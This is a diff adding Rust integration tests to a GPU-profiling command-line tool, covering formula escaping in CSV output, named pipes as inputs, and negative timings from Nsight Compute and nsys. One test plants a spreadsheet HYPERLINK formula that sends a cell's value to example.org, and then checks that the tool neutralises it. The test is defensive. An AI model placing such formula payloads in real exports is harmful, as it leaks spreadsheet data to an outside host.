@@ -8,6 +8,7 @@ mod scratch;
 mod support;
 
 use std::fs;
+use std::io::Read;
 use std::os::unix::fs::PermissionsExt;
 use std::path::{Path, PathBuf};
 
@@ -209,4 +210,128 @@ fn secrets_on_the_command_line_are_in_no_file_of_the_run_and_the_run_is_private(
     let kept: Vec<&str> = kept.iter().map(String::as_str).collect();
     assert_eq!(Output::of(scratch.command(&kept)).code, 0);
     assert!(scratch.text("kept", "manifest.json").contains("S3CRET-ONE"));
+}
+
+/// A page of Nsight Compute with its text changed.
+fn changed_page(scratch: &Scratch, name: &str, change: impl Fn(String) -> String) {
+    let fixture = "tests/fixtures/regions/kernel/A==A1%+A%A1%+B%/raw.csv.gz";
+    let packed = fs::read(Path::new(env!("CARGO_MANIFEST_DIR")).join(fixture)).unwrap();
+    let mut text = String::new();
+    flate2::read::GzDecoder::new(&packed[..]).read_to_string(&mut text).unwrap();
+    fs::write(scratch.path(name), change(text)).unwrap();
+}
+
+#[test]
+fn a_kernel_named_like_a_formula_is_text_in_a_spreadsheet() {
+    let scratch = Scratch::new();
+    let formula = r#"=HYPERLINK(""http://example.org/?x="" & A1, ""click"")"#;
+    changed_page(&scratch, "raw.csv", |text| text.replace("void vectorized_elementwise_kernel", formula));
+    let output = Output::of(scratch.command(&["regions", "--from", "raw.csv", "--out", "run"]));
+    assert_eq!(output.code, 0, "{}", output.stderr);
+    let tables: Vec<PathBuf> =
+        files(&scratch.path("run")).into_iter().filter(|file| file.ends_with("kernels.csv")).collect();
+    assert!(!tables.is_empty());
+    for table in tables {
+        let text = fs::read_to_string(&table).unwrap();
+        assert!(text.contains(r#","'=HYPERLINK(""http://"#), "{text}");
+        // A cell starts behind a comma or at the start of a line, with or without a quote.
+        for start in [",=", ",\"=", "\n=", "\n\"="] {
+            assert!(!text.contains(start), "{start:?}: {text}");
+        }
+    }
+}
+
+/// A named pipe, and a shell that writes to it whatever the command prints.
+fn pipe(scratch: &Scratch, name: &str, command: &str) -> std::process::Child {
+    let path = scratch.path(name);
+    assert!(std::process::Command::new("mkfifo").arg(&path).status().unwrap().success());
+    let shell = format!("exec {command} > '{}'", path.display());
+    std::process::Command::new("sh").args(["-c", &shell]).stderr(std::process::Stdio::null()).spawn().unwrap()
+}
+
+#[test]
+fn a_pipe_is_read_like_a_file_to_its_end_and_refused_where_it_has_none() {
+    let scratch = Scratch::new();
+    let trace = Path::new(env!("CARGO_MANIFEST_DIR")).join("../ingest/tests/fixtures/torch/small.json");
+    let mut writer = pipe(&scratch, "trace.json", &format!("cat '{}'", trace.display()));
+    let output = Output::of(scratch.command(&["import", "trace.json", "--out", "piped"]));
+    assert_eq!(output.code, 0, "{}", output.stderr);
+    assert!(writer.wait().unwrap().success());
+    fs::copy(&trace, scratch.path("plain.json")).unwrap();
+    assert_eq!(Output::of(scratch.command(&["import", "plain.json", "--out", "plain"])).code, 0);
+    let totals = |run: &str| scratch.json(run, "metrics.json")["totals"].clone();
+    assert_eq!(totals("piped"), totals("plain"));
+
+    let mut writer = pipe(&scratch, "config.json", "cat /dev/zero");
+    let output = Output::of(scratch.command(&["analyze", "--model", "config.json"]));
+    assert!([1, 2].contains(&output.code), "{}", output.stderr);
+    assert!(output.stderr.contains("config.json") && output.stderr.contains("more than"), "{}", output.stderr);
+    // The writer's pipe is broken now.
+    assert!(!writer.wait().unwrap().success());
+}
+
+#[test]
+fn a_pipe_in_place_of_a_manifest_is_refused_and_not_waited_for() {
+    let scratch = Scratch::new();
+    fs::create_dir(scratch.path("run")).unwrap();
+    let manifest = scratch.path("run/manifest.json");
+    assert!(std::process::Command::new("mkfifo").arg(&manifest).status().unwrap().success());
+    for verb in [&["show", "./run"][..], &["compare", "./run", "./run"], &["pack", "./run"], &["report", "./run"]] {
+        let output = Output::of(scratch.command(verb));
+        assert_eq!(output.code, 1, "{verb:?}: {}", output.stderr);
+        assert!(output.stderr.contains("manifest.json is a device or pipe"), "{verb:?}: {}", output.stderr);
+    }
+}
+
+#[test]
+fn negative_times_of_nsight_compute_are_counted_and_in_no_report() {
+    let scratch = Scratch::new();
+    changed_page(&scratch, "raw.csv", |text| {
+        let column =
+            text.lines().next().unwrap().split("\",\"").position(|name| name == "gpu__time_duration.sum").unwrap();
+        let negated = |line: &str| {
+            let mut cells: Vec<String> = line.split("\",\"").map(str::to_owned).collect();
+            cells[column] = format!("-{}", cells[column]);
+            cells.join("\",\"")
+        };
+        let lines = text.lines().enumerate();
+        lines.map(|(place, line)| if place == 3 { negated(line) } else { line.to_owned() } + "\n").collect()
+    });
+    for verb in [&["regions", "--from", "raw.csv", "--out", "regions"][..], &["import", "raw.csv", "--out", "import"]] {
+        let output = Output::of(scratch.command(verb));
+        assert!([0, 3].contains(&output.code), "{verb:?}: {}", output.stderr);
+        let metrics = scratch.json(verb[verb.len() - 1], "metrics.json");
+        let counters = metrics["quality"].as_array().unwrap();
+        assert!(counters.iter().any(|one| one["counter"] == "ncu_numbers_impossible"), "{verb:?}: {counters:?}");
+        assert!(!metrics.to_string().contains("_ns\":-"), "{verb:?}");
+    }
+}
+
+#[test]
+fn negative_times_of_nsys_stats_are_counted_and_in_no_report() {
+    let scratch = Scratch::new();
+    let fixture = Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("../ingest/tests/fixtures/nsys_stats/nsys-dsocr-cuda_gpu_kern_sum.csv");
+    let text = fs::read_to_string(fixture).unwrap();
+    let lines: Vec<String> = text
+        .lines()
+        .enumerate()
+        .map(|(place, line)| {
+            let mut cells: Vec<String> = line.split(',').map(str::to_owned).collect();
+            if place == 1 {
+                cells[1] = format!("-{}", cells[1]);
+            }
+            cells.join(",")
+        })
+        .collect();
+    fs::write(scratch.path("kern_sum.csv"), lines.join("\n") + "\n").unwrap();
+    let output = Output::of(scratch.command(&["import", "kern_sum.csv", "--out", "run"]));
+    // A row that cannot be is a part of the input that is missing.
+    assert_eq!(output.code, 3, "{}", output.stderr);
+    assert!(output.stderr.contains("kern_sum.csv"), "{}", output.stderr);
+    let metrics = scratch.json("run", "metrics.json");
+    let unreadable =
+        metrics["quality"].as_array().unwrap().iter().find(|one| one["counter"] == "nsys_stats_rows_unreadable");
+    assert_eq!(unreadable.unwrap()["value"], 1);
+    assert!(!metrics.to_string().contains("_ns\":-"), "{metrics}");
 }
